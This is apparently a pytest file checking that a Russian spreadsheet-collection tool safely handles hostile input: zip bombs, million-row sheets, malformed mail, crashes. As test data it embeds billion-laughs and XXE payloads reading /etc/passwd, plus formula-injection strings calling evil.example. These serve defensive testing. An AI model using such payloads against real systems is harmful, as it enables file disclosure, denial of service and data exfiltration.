"""Hostile and broken input: limits per file, crash safety, property-based tests."""

from __future__ import annotations

import itertools
import os
import random
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shkmd_xl.campaign import Campaign
from shkmd_xl.collect import collect, work_paths
from shkmd_xl.demo import build_inbox
from shkmd_xl.feedback.annotated import SHEET as REMARKS
from shkmd_xl.forms import sheets as F
from shkmd_xl.intake.archive import verify
from shkmd_xl.isolation import Limits, run_isolated
from shkmd_xl.reader.values import (
    BadValue,
    parse_date,
    parse_deadline,
    parse_percent,
    parse_yes_no,
)

pytestmark = pytest.mark.slow


def _sleepy(seconds: float) -> float:
    time.sleep(seconds)
    return seconds


def _hungry(megabytes: int) -> int:
    return len(bytearray(megabytes * 1024 * 1024))


def _crash(code: int) -> None:
    os._exit(code)


def test_limits_time_memory_crash_and_the_batch_goes_on() -> None:
    limits = Limits(memory_mb=200, seconds=1.0)
    got = dict((i, (ok, r)) for i, ok, r in run_isolated(_sleepy, [0.01, 5.0, 0.02], 2, limits))
    assert got == {0: (True, 0.01), 1: (False, "timeout"), 2: (True, 0.02)}
    got = dict((i, (ok, r)) for i, ok, r in run_isolated(_hungry, [10, 2000, 10], 1, limits))
    assert got[0] == (True, 10 * 1024 * 1024) and got[2] == (True, 10 * 1024 * 1024)
    assert got[1] == (False, "memory")
    got = dict((i, (ok, r)) for i, ok, r in run_isolated(_crash, [3, 4], 1, limits))
    assert got == {0: (False, "crash"), 1: (False, "crash")}


def _job(kind: str) -> str:
    if kind == "sleep":
        time.sleep(5)
    elif kind == "crash":
        os._exit(3)
    return kind


def test_jobs_queued_behind_a_failing_one_are_not_lost() -> None:
    """Each worker has the next file queued; a worker killed for one file hands the
    queued ones to its replacement, and the time limit counts from each job's start."""
    got = dict(
        (i, (ok, r))
        for i, ok, r in run_isolated(_job, ["a", "sleep", "b", "crash", "c"], 1, Limits(seconds=1))
    )
    assert got == {
        0: (True, "a"),
        1: (False, "timeout"),
        2: (True, "b"),
        3: (False, "crash"),
        4: (True, "c"),
    }
    got = dict(
        (i, (ok, r)) for i, ok, r in run_isolated(_sleepy, [0.7, 0.7, 0.7], 1, Limits(seconds=1))
    )
    assert got == {0: (True, 0.7), 1: (True, 0.7), 2: (True, 0.7)}


def test_a_huge_sheet_is_refused_within_its_limit(
    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
) -> None:
    inbox = tmp_path / "in"
    inbox.mkdir()
    big = xlsxwriter.Workbook(str(inbox / "огромный.xlsx"), {"constant_memory": True})
    ws = big.add_worksheet(F.ROADMAP.name)
    ws.write_row(0, 0, F.ROADMAP.labels)
    for r in range(1, 120_000):
        ws.write_row(r, 0, ["СОШ", "1. x", f"Мероприятие {r}"])
    big.close()
    (inbox / "обычный.xlsx").write_bytes(templates["SOLN"].read_bytes())
    result = collect(
        inbox,
        "2026-06",
        campaign,
        tmp_path / "out",
        workers=2,
        limits=Limits(seconds=0.5),
        feedback=False,
    )
    assert result.consolidation is not None
    limited = [f for f in result.consolidation.findings if f["file"] == "огромный.xlsx"]
    # xlsxwriter declares the sheet's size: refused before reading, naming the sheet
    assert [f["code"] for f in limited] == ["SUB09"] and "120 000 строк" in limited[0]["message"]
    assert limited[0]["sheet"] == F.ROADMAP.name
    assert any(s.code == "SOLN" and s.submission for s in result.consolidation.statuses)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (
            b"\xef\xbb\xbf<html><body><table><tr><td>1</td></tr></table></body></html>",
            "веб-страница (HTML, таблиц: 1)",
        ),
        (
            b"<!DOCTYPE html><html><body>\xd0\x9e\xd1\x82\xd1\x87\xd1\x91\xd1\x82</body></html>",
            "веб-страница (HTML)",
        ),
        ("Код;ОО\n1;СОШ\n".encode("cp1251"), "текстовая таблица (CSV)"),
        ("просто текст письма".encode(), "не книга Excel"),
        (b"\x00" * 100, "не книга Excel"),
    ],
)
def test_text_html_csv_named_as_workbooks(
    tmp_path: Path, campaign: Campaign, content: bytes, said: str
) -> None:
    """Web systems export HTML tables as .xls: a clear finding says what the file is."""
    from shkmd_xl.pipeline import check

    for name in ("web.xls", "web.xlsx"):
        (tmp_path / name).write_bytes(content)
        report = check(tmp_path / name, campaign)
        assert [i.code for i in report] == ["SUB09"] and report.unreadable
        assert said in report.issues[0].message


@pytest.mark.parametrize(
    "xml",
    [
        # billion laughs and an external entity, in sharedStrings
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;'
        b'&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><sst xmlns="http://sche'
        b'mas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&c;</t></si></sst>',
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst xmlns="'
        b'http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&e;</t></si></sst>',
    ],
)
def test_entities_in_shared_strings(
    tmp_path: Path, templates: dict[str, Path], campaign: Campaign, xml: bytes
) -> None:
    from shkmd_xl.pipeline import check

    path = tmp_path / "entities.xlsx"
    with zipfile.ZipFile(templates["SOLN"]) as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            dst.writestr(item, xml if item.filename == "xl/sharedStrings.xml" else src.read(item))
    report = check(path, campaign, "2026-06")
    assert not any("root:" in i.message for i in report)  # /etc/passwd never read into output
    # the reader refuses the entity instead of expanding it: an unreadable file, one finding
    assert [i.code for i in report] == ["SUB09"] and report.unreadable


@settings(max_examples=300, deadline=None)
@given(
    st.one_of(
        st.text(),
        st.integers(),
        st.floats(allow_nan=True),
        st.booleans(),
        st.none(),
        st.dates(),
        st.datetimes(),
    )
)
def test_normalisers_return_a_value_or_a_bad_value(value: object) -> None:
    for parse in (parse_date, parse_deadline, parse_percent, parse_yes_no):
        try:
            parse(value)
        except BadValue as exc:
            assert exc.expected


# what a user can type into a cell: any text but control characters (Excel refuses them)
TYPED = st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")), max_size=40)
CELL = st.one_of(
    TYPED,
    st.sampled_from(
        [
            "да",
            "Нет ",
            "95%",
            "95,5",
            "II квартал 2026",
            "апрель 2026",
            "15.04.2026",
            "=1+1",
            "\u00a0",
        ]
    ),
    st.integers(-(10**6), 10**6),
    st.floats(allow_nan=False, allow_infinity=False),
    st.booleans(),
    st.dates(),
)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(st.lists(CELL, min_size=12, max_size=12), min_size=1, max_size=6))
def test_reader_with_random_cells_never_raises(
    tmp_path_factory: pytest.TempPathFactory,
    templates: dict[str, Path],
    campaign: Campaign,
    rows: list[list[object]],
) -> None:
    from shkmd_xl.pipeline import check

    wb = openpyxl.load_workbook(templates["SOLN"])
    ws = wb[F.ROADMAP.name]
    for r, row in enumerate(rows, 2):
        for c, value in enumerate(row, 1):
            cell = ws.cell(r, c)
            cell.value = value
            if isinstance(value, str) and value.startswith("="):
                cell.data_type = "s"
    path = tmp_path_factory.mktemp("h") / "random.xlsx"
    wb.save(path)
    report = check(path, campaign, "2026-06")
    for issue in report:
        assert issue.message and issue.code  # every template rendered with its parameters


@pytest.fixture(scope="module")
def small_inbox(tmp_path_factory: pytest.TempPathFactory, campaign: Campaign) -> Path:
    root = tmp_path_factory.mktemp("kill")
    build_inbox(campaign, root / "in", "2026-04")
    return root / "in" / "2026-04"


COLLECT = (
    "import sys; from pathlib import Path; from shkmd_xl.campaign import default_campaign;"
    " from shkmd_xl.collect import collect;"
    " collect(Path(sys.argv[1]), '2026-04', default_campaign(), Path(sys.argv[2]))"
)


def _content(path: Path) -> dict[str, list[tuple]]:
    wb = openpyxl.load_workbook(path, read_only=True)
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in wb.worksheets}


def test_sigkill_at_random_points_loses_nothing(small_inbox: Path, tmp_path: Path) -> None:
    reference = tmp_path / "reference"
    subprocess.run([sys.executable, "-c", COLLECT, str(small_inbox), str(reference)], check=True)
    out = tmp_path / "killed"
    rnd = random.Random(7)
    for _ in range(20):
        proc = subprocess.Popen(
            [sys.executable, "-c", COLLECT, str(small_inbox), str(out)], start_new_session=True
        )
        time.sleep(rnd.uniform(0.3, 3.0))
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        if work_paths(out)["store"].exists():
            db = sqlite3.connect(work_paths(out)["store"])
            assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
            db.close()
        assert all(
            verify(p)
            for p in (work_paths(out)["archive"]).rglob("*")
            if p.is_file() and not p.name.startswith(".tmp-")
        )
        report = out / "Свод_2026-04.xlsx"
        if report.exists():
            _content(report)  # a complete workbook, never a half-written one
    subprocess.run([sys.executable, "-c", COLLECT, str(small_inbox), str(out)], check=True)
    assert _content(out / "Свод_2026-04.xlsx") == _content(reference / "Свод_2026-04.xlsx")


def test_far_cells_and_wide_sheets(tmp_path: Path, campaign: Campaign) -> None:
    from shkmd_xl.pipeline import check

    far = xlsxwriter.Workbook(str(tmp_path / "far.xlsx"))
    ws = far.add_worksheet(F.ROADMAP.name)
    ws.write_row(0, 0, F.ROADMAP.labels)
    ws.write(1_048_575, 16_383, "угол")  # XFD1048576
    far.close()
    wide = xlsxwriter.Workbook(str(tmp_path / "wide.xlsx"), {"constant_memory": True})
    ws = wide.add_worksheet(F.ROADMAP.name)
    ws.write_row(0, 0, [f"столбец {i}" for i in range(16_384)])
    wide.close()
    (far_issue,) = check(tmp_path / "far.xlsx", campaign, "2026-06")
    assert far_issue.code == "SUB09" and far_issue.location.sheet == F.ROADMAP.name
    assert "1 048 576 строк" in far_issue.message
    # a column beyond XFD (calamine accepts «ZZZZ»: 475 254 columns) that the declared
    # size does not show: found by the scan, refused before calamine allocates it
    beyond = xlsxwriter.Workbook(str(tmp_path / "beyond.xlsx"))
    ws = beyond.add_worksheet(F.ROADMAP.name)
    ws.write_row(0, 0, F.ROADMAP.labels)
    for r in range(1, 200):
        ws.write(r, 0, f"СОШ {r}")
    beyond.close()
    with zipfile.ZipFile(tmp_path / "beyond.xlsx") as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace(b'<c r="A5"', b'<c r="ZZZZ5" t="n"><v>1</v></c><c r="A5"')
    with zipfile.ZipFile(tmp_path / "beyond.xlsx", "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in parts.items():
            z.writestr(n, data)
    from shkmd_xl.reader.opening import open_workbook

    opened = open_workbook(tmp_path / "beyond.xlsx")  # refused before calamine opens it
    assert opened.book is None and [i.code for i in opened.issues] == ["SUB09"]
    (beyond_issue,) = check(tmp_path / "beyond.xlsx", campaign, "2026-06")
    assert beyond_issue.code == "SUB09" and "475 254" in beyond_issue.message
    wide_report = check(tmp_path / "wide.xlsx", campaign, "2026-06")
    # read by its headers: the template's columns are missing, nothing else breaks
    missing = {i.params.get("column") for i in wide_report if i.code == "SUB13"}
    assert {f.label for f in F.ROADMAP.fields if not f.added_later} <= missing


def test_nested_zip_bomb_and_many_attachments(tmp_path: Path, templates: dict[str, Path]) -> None:
    import io
    from email.message import EmailMessage

    from shkmd_xl.intake import Candidate, Refused, scan

    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("бомба.xlsx", b"\0" * (150 * 1024 * 1024))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("вложенный.zip", inner.getvalue())
    (tmp_path / "nested.zip").write_bytes(outer.getvalue())
    msg = EmailMessage()
    msg["From"] = "a@example.ru"
    msg["Subject"] = "200 вложений"
    msg.set_content("много")
    data = templates["SOLN"].read_bytes()
    for i in range(200):
        msg.add_attachment(
            data, maintype="application", subtype="octet-stream", filename=f"Отчёт {i:03d}.xlsx"
        )
    (tmp_path / "big.eml").write_bytes(bytes(msg))
    items = list(scan(tmp_path))
    refused = [i for i in items if isinstance(i, Refused)]
    assert len(refused) == 1 and "сжатие" in refused[0].reason
    assert sum(isinstance(i, Candidate) for i in items) == 200


def test_malformed_mime_and_wrong_charset(tmp_path: Path, templates: dict[str, Path]) -> None:
    import base64

    from shkmd_xl.intake import Candidate, Other, scan

    data = base64.encodebytes(templates["SOLN"].read_bytes()).decode()
    raw = (
        "From: =?koi8-r?B?8NLP18XSy8E=?= <x@example.ru>\r\n"
        "Subject: =?utf-8?B?broken\r\n"
        'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
        '--B\r\nContent-Type: text/plain; charset="no-such-charset"\r\n\r\n\xe9\xe9\r\n'
        "--B\r\nContent-Type: application/octet-stream\r\n"
        "Content-Disposition: attachment; filename*=utf-8''%D0%9E%D1%82%D1%87%D1%91%D1%82.xlsx\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n" + data + "\r\n--B"
    )  # no closing --
    (tmp_path / "bad.eml").write_bytes(raw.encode("latin-1"))
    item, letter = list(scan(tmp_path))  # the report, then the letter kept as evidence
    assert isinstance(letter, Other) and letter.outcome == "письмо: 1 книга отчёта"
    assert isinstance(item, Candidate) and item.name == "Отчёт.xlsx"
    assert item.data == templates["SOLN"].read_bytes()


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "=HYPERLINK("])
def test_formula_like_text_stays_text_everywhere(
    tmp_path: Path, templates: dict[str, Path], campaign: Campaign, prefix: str
) -> None:
    from .fills import fill_with_openpyxl, good_fill

    fill = good_fill(campaign, "SOLN", "2026-06")
    text = prefix + '"http://evil.example/"&A1)' if prefix.endswith("(") else prefix + "1+1"
    for key in ("event", "responsible_position", "expected", "evidence"):
        fill.set(F.ROADMAP, 0, key, text)
    fill.set(F.ROADMAP, 1, "responsible", text)  # also a finding: a feedback copy is made
    inbox = tmp_path / "in"
    inbox.mkdir()
    fill_with_openpyxl(templates["SOLN"], fill, inbox / "r.xlsx")
    result = collect(inbox, "2026-06", campaign, tmp_path / "out", workers=1)
    outputs = [result.outputs["regional"], *result.feedback]
    for path in outputs:
        with zipfile.ZipFile(path) as z:
            assert not any("vbaProject" in n for n in z.namelist())
            for name in z.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    xml = z.read(name).decode()
                    assert f"<f>{text[1:]}" not in xml and f"<f>{text}" not in xml
    rows = openpyxl.load_workbook(result.outputs["regional"])["Дорожные карты"]
    cells = [c for row in rows.iter_rows(min_row=2) for c in row if c.value == text]
    assert len(cells) >= 4 and all(c.data_type == "s" for c in cells)


# -- the rest of the hostile corpus ------------------------------------------------

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_REL = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_PKG = "http://schemas.openxmlformats.org/package/2006"
_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def _million_rows(path: Path, rows: int, dimension: bool) -> Path:
    """A one-sheet workbook «Дорожные карты» of ``rows`` rows, streamed (a few MB zipped)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            f'<?xml version="1.0"?><Types xmlns="{_PKG}/content-types">'
            f'<Default Extension="rels" ContentType="{_PKG[:-5]}/relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_MAIN}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_MAIN}.worksheet+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{_PKG}/relationships">'
            f'<Relationship Id="rId1" Type="{_DOC}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        z.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0"?><workbook {_NS} {_REL}><sheets><sheet name="{F.ROADMAP.name}"'
            ' sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<?xml version="1.0"?><Relationships xmlns="{_PKG}/relationships">'
            f'<Relationship Id="rId1" Type="{_DOC}/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
        )
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(f'<?xml version="1.0"?><worksheet {_NS}>'.encode())
            if dimension:  # as Excel, LibreOffice, openpyxl and xlsxwriter write it
                fh.write(f'<dimension ref="A1:L{rows}"/>'.encode())
            head = "".join(
                f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{label}</t></is></c>'
                for i, label in enumerate(F.ROADMAP.labels)
            )
            fh.write(f'<sheetData><row r="1">{head}</row>'.encode())
            for start in range(2, rows + 1, 10_000):
                fh.write(
                    "".join(
                        f'<row r="{r}"><c r="C{r}" t="inlineStr"><is><t>Мероприятие {r}</t>'
                        "</is></c></row>"
                        for r in range(start, min(start + 10_000, rows + 1))
                    ).encode()
                )
            fh.write(b"</sheetData></worksheet>")
    return path


def test_a_sheet_of_a_million_rows(
    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
) -> None:
    from shkmd_xl.pipeline import check

    inbox = tmp_path / "in"
    inbox.mkdir()
    declared = _million_rows(inbox / "миллион.xlsx", 1_000_000, dimension=True)
    silent = _million_rows(inbox / "миллион без размера.xlsx", 1_000_000, dimension=False)
    (inbox / "обычный.xlsx").write_bytes(templates["SOLN"].read_bytes())
    for path in (declared, silent):  # in process: the full scan names the sheet
        (issue,) = check(path, campaign, "2026-06")
        assert issue.code == "SUB09" and issue.location.sheet == F.ROADMAP.name
        assert "1 000 000 строк" in issue.message
    result = collect(
        inbox, "2026-06", campaign, tmp_path / "out", workers=2, limits=Limits(seconds=3)
    )
    assert result.consolidation is not None
    found = {
        f["file"]: f
        for f in result.consolidation.findings
        if f["file"] in ("миллион.xlsx", "миллион без размера.xlsx") and f["code"] == "SUB09"
    }
    assert len(found) == 2  # each file refused (SUB09), whichever limit met it first
    # the declared size refuses at once with the named sheet; a sheet that hides its
    # size meets the worker's time or memory limit, or the row rule once it is read
    assert "1 000 000 строк" in found["миллион.xlsx"]["message"]
    assert found["миллион.xlsx"]["sheet"] == F.ROADMAP.name
    silent = found["миллион без размера.xlsx"]["message"]
    assert any(why in silent for why in ("дольше 3 с", "памяти", "1 000 000 строк"))
    assert any(s.code == "SOLN" and s.submission for s in result.consolidation.statuses)


@pytest.mark.libreoffice
def test_encrypted_legacy_xls_and_ods(
    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
) -> None:
    """LibreOffice's «Save with password» writes a really encrypted .xls (RC4) and .ods."""
    from shkmd_xl.pipeline import check

    from .lo import run_jobs

    xls, ods, plain = tmp_path / "пароль.xls", tmp_path / "пароль.ods", tmp_path / "открытый.xls"
    run_jobs(
        [
            {
                "open": str(templates["SOLN"]),
                "save": [
                    [str(xls), "xls", "секрет"],
                    [str(ods), "ods", "секрет"],
                    [str(plain), "xls"],
                ],
            }
        ]
    )
    assert xls.read_bytes()[:8] == bytes.fromhex("D0CF11E0A1B11AE1")
    for path in (xls, ods):
        report = check(path, campaign)
        assert [i.code for i in report] == ["SUB08"] and report.unreadable, path
    assert "SUB08" not in {i.code for i in check(plain, campaign)}
    xor = tmp_path / "password_xor.xls"
    xor.write_bytes(plain.read_bytes())
    _declare_xor_obfuscation(xor)
    report = check(xor, campaign)  # Excel 97's XOR obfuscation: a password, not damage
    assert [i.code for i in report] == ["SUB08"] and report.unreadable


def _declare_xor_obfuscation(path: Path) -> None:
    """Turn the MMS and INTERFACEEND records after the first BOF (6 + 4 bytes) into a
    FILEPASS record of the same 10 bytes declaring XOR obfuscation (wEncryptionType 0),
    as Excel 97 writes a workbook protected with a password for opening."""
    import struct

    import olefile

    with olefile.OleFileIO(str(path), write_mode=True) as ole:
        data = bytearray(ole.openstream("Workbook").read())
        pos = 0
        records = []
        while pos + 4 <= len(data) and len(records) < 12:
            rtype, size = struct.unpack_from("<HH", data, pos)
            records.append((rtype, pos, size))
            pos += 4 + size
        at = next(
            p
            for (t, p, n), (t2, _, n2) in itertools.pairwise(records)
            if (t, n, t2, n2) == (0xC1, 2, 0xE2, 0)
        )
        data[at : at + 10] = struct.pack("<HHHHH", 0x2F, 6, 0, 0xABCD, 0x1234)
        ole.write_stream("Workbook", bytes(data))


def test_msg_with_nested_messages(
    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
) -> None:
    """A report forwarded as an attached message, itself holding a forwarded message."""
    import datetime as dt

    from shkmd_xl.intake import Candidate, Other, Refused, scan
    from shkmd_xl.intake.msg_writer import Mail, message

    when = dt.datetime(2026, 6, 20, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=3)))
    soln, d01 = templates["SOLN"].read_bytes(), templates["D01"].read_bytes()
    deepest = Mail("Отчёт D01", "d01@example.ru", "Петров", when, "тело", [("D01.xlsx", d01)])
    forwarded = Mail(
        "Fwd: отчёт",
        "soln@example.ru",
        "Иванова",
        when,
        "пересылаю",
        [("Солнечногорск.xlsx", soln), ("Письмо Петрова", deepest)],
    )
    raw = message(
        "Отчёты", "boss@example.ru", "Начальник", when, "два отчёта", [("Fwd", forwarded)]
    )
    inbox = tmp_path / "in"
    inbox.mkdir()
    (inbox / "Пересылка.msg").write_bytes(raw)
    items = list(scan(inbox))
    assert not [i for i in items if isinstance(i, Refused)]
    got = {i.chain: i.data for i in items if isinstance(i, Candidate)}
    assert got == {
        "Пересылка.msg › Fwd › Солнечногорск.xlsx": soln,
        "Пересылка.msg › Fwd › Письмо Петрова › D01.xlsx": d01,
    }
    # deeper than the nesting limit: refused with a reason, nothing else lost
    mail = deepest
    for level in range(6):
        mail = Mail(f"Fwd {level}", "x@example.ru", "X", when, "", [(f"fwd{level}", mail)])
    (inbox / "Пересылка.msg").unlink()
    (inbox / "Глубоко.msg").write_bytes(
        message("Глубоко", "x@example.ru", "X", when, "", [("m", mail)])
    )
    *nested, letter = list(scan(inbox))
    (item,) = [i for i in nested if isinstance(i, Refused)]
    assert "вложенность" in item.reason
    assert isinstance(letter, Other) and letter.outcome == "письмо без вложений-книг"
    # every letter down to the limit is an item of its own (issue 21)
    letters = [i.chain for i in nested if isinstance(i, Other)]
    assert letters and all(c.startswith("Глубоко.msg › m") for c in letters)
    assert len(set(letters)) == len(letters)


def test_names_colliding_only_by_case(
    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
) -> None:
    """Nothing is extracted by its received name: both files are kept and examined."""
    from email.message import EmailMessage

    inbox = tmp_path / "in"
    inbox.mkdir()
    soln, d01 = templates["SOLN"].read_bytes(), templates["D01"].read_bytes()
    with zipfile.ZipFile(inbox / "архив.zip", "w") as z:
        z.writestr("Отчёт.xlsx", soln)
        z.writestr("ОТЧЁТ.xlsx", d01)
    msg = EmailMessage()
    msg["From"] = "a@example.ru"
    msg["Subject"] = "Два файла"
    msg.set_content("два")
    msg.add_attachment(soln, maintype="application", subtype="octet-stream", filename="report.XLSX")
    msg.add_attachment(d01, maintype="application", subtype="octet-stream", filename="REPORT.xlsx")
    (inbox / "письмо.eml").write_bytes(bytes(msg))
    out = tmp_path / "out"
    result = collect(inbox, "2026-06", campaign, out, workers=1, feedback=False)
    assert result.consolidation is not None
    db = sqlite3.connect(work_paths(out)["store"])
    names = sorted(r[0] for r in db.execute("SELECT original_name FROM receipts"))
    db.close()
    assert names == sorted(["REPORT.xlsx", "report.XLSX", "Отчёт.xlsx", "ОТЧЁТ.xlsx"])
    archived = [p for p in work_paths(out)["archive"].rglob("*.xlsx") if p.is_file()]
    assert len(archived) == 2 and all(verify(p) for p in archived)
    submitted = {s.code for s in result.consolidation.statuses if s.submission}
    assert submitted == {"SOLN", "D01"}


def test_two_collect_processes_on_one_folder(small_inbox: Path, tmp_path: Path) -> None:
    """Started together, the second waits for the first; both finish with the same result."""
    reference = tmp_path / "reference"
    subprocess.run([sys.executable, "-c", COLLECT, str(small_inbox), str(reference)], check=True)
    out = tmp_path / "shared"
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", COLLECT + "; print('done')", str(small_inbox), str(out)],
            stdout=subprocess.PIPE,
            text=True,
        )
        for _ in range(2)
    ]
    for proc in procs:
        stdout, _ = proc.communicate(timeout=300)
        assert proc.returncode == 0 and "done" in stdout
    assert _content(out / "Свод_2026-04.xlsx") == _content(reference / "Свод_2026-04.xlsx")
    db = sqlite3.connect(work_paths(out)["store"])
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    # one submission per received file: the second run found everything already done
    assert (
        db.execute("SELECT COUNT(*) FROM submissions").fetchone()[0]
        == sqlite3.connect(work_paths(reference)["store"])
        .execute("SELECT COUNT(*) FROM submissions")
        .fetchone()[0]
    )
    db.close()


def test_a_run_that_waits_too_long_says_so(small_inbox: Path, tmp_path: Path) -> None:
    from shkmd_xl.store import run_lock

    from .clirun import run_cli

    out = tmp_path / "busy"
    with run_lock(out):  # another run holds the folder
        done = run_cli("collect", str(small_inbox), "-p", "2026-04", "-o", str(out), "--wait", "1")
    assert done.returncode == 2
    assert "занята другим запуском сбора дольше 1 с" in done.stderr
    assert "Traceback" not in done.stderr


def _foreign(xml: bytes) -> list[str]:
    """Formulas of «Замечания» that are not the «Осталось?» comparison: anything calling
    out (a link, a web service, another file) once the text constants are set aside (the
    value found wrong is compared as a constant, whatever it says)."""
    import html
    import re

    out = []
    for body in re.findall(rb"<f(?: [^>]*)?>(.*?)</f>", xml, re.S):
        formula = html.unescape(body.decode())
        code = re.sub(r'"(?:[^"]|"")*"', '""', formula)  # text constants set aside
        allowed = {"IF", "AND", "LEN", "TRIM", "EXACT", "MID", "ISNUMBER", "ISLOGICAL", "INT"}
        called = set(re.findall(r"([A-Z][A-Z0-9.]*)\(", code)) - allowed
        if not code.startswith("IF(") or called or "[" in code or "://" in code:
            out.append(formula)
    return out


def _computing_parts(path: Path) -> list[str]:
    """Formulas in data cells, macros and links to other files in an output workbook."""
    import re

    found = []
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        found += [n for n in names if "vbaproject" in n.lower() or "externallink" in n.lower()]
        book = z.read("xl/workbook.xml").decode()
        rels = z.read("xl/_rels/workbook.xml.rels").decode()
        targets = dict(re.findall(r'Id="(\w+)"[^>]*Target="([^"]+)"', rels))
        targets |= {k: v for v, k in re.findall(r'Target="([^"]+)"[^>]*Id="(\w+)"', rels)}
        for sheet, rid in re.findall(r'<sheet [^>]*name="([^"]+)"[^>]*r:id="(\w+)"', book):
            if sheet == F.CONTROL:  # the template's own self-check formulas
                continue
            part = targets[rid].lstrip("/")
            xml = z.read(part if part.startswith("xl/") else "xl/" + part)
            if sheet == REMARKS:  # ours: «Осталось?» compares a cell with the value found
                found += [f"{path.name}: {sheet}: {f}" for f in _foreign(xml)]
                continue
            if re.search(rb"<f[ >]", xml):
                found.append(f"{path.name}: {sheet}")
    return found


def test_no_output_computes_anything(
    tmp_path: Path, templates: dict[str, Path], campaign: Campaign
) -> None:
    """Real formulas typed into data cells, formula-like text and macros in the input;
    every workbook the run writes is scanned: no formula in a data cell, no macro, no link."""
    from .fills import fill_with_openpyxl, good_fill

    fill = good_fill(campaign, "SOLN", "2026-06")
    fill.put(F.ROADMAP, 0, "event", '=WEBSERVICE("http://evil.example/x")', "formula")
    fill.put(F.ROADMAP, 1, "responsible", "=1+1", "formula")
    fill.put(F.ROADMAP, 2, "expected", '=HYPERLINK("http://evil.example/","ok")', "string")
    inbox = tmp_path / "in"
    inbox.mkdir()
    fill_with_openpyxl(templates["SOLN"], fill, inbox / "формулы.xlsx")
    with (
        zipfile.ZipFile(templates["D01"]) as src,
        zipfile.ZipFile(inbox / "макросы.xlsm", "w") as dst,
    ):
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        dst.writestr("xl/vbaProject.bin", b"Attribute VB_Name = Evil")
    result = collect(inbox, "2026-06", campaign, tmp_path / "out", workers=1)
    assert result.consolidation is not None
    written = [
        p
        for p in (tmp_path / "out").rglob("*")
        if p.suffix in (".xlsx", ".xlsm")
        and work_paths(tmp_path / "out")["archive"] not in p.parents
    ]
    kinds = {p.parent.name for p in written}
    assert result.outputs["regional"] in written and len(result.feedback) == 2
    assert "Шаблоны" in kinds  # reminder templates of the missing municipalities are scanned too
    assert [bad for p in written for bad in _computing_parts(p)] == []
    copy = openpyxl.load_workbook(
        next(p for p in result.feedback if "SOLN" in p.name), read_only=False
    )
    row = F.ROADMAP.first_data_row + 3  # 1-based row of data row 2
    expected = copy[F.ROADMAP.name].cell(row, F.ROADMAP.col("expected") + 1)
    assert expected.value.startswith("=HYPERLINK(") and expected.data_type == "s"


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
        '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_entities_in_a_sheet(
    tmp_path: Path, templates: dict[str, Path], campaign: Campaign, doctype: str
) -> None:
    """Billion laughs and an external entity inside a worksheet (Титул): never expanded."""
    from shkmd_xl.pipeline import check

    sheet = (
        f'<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/'
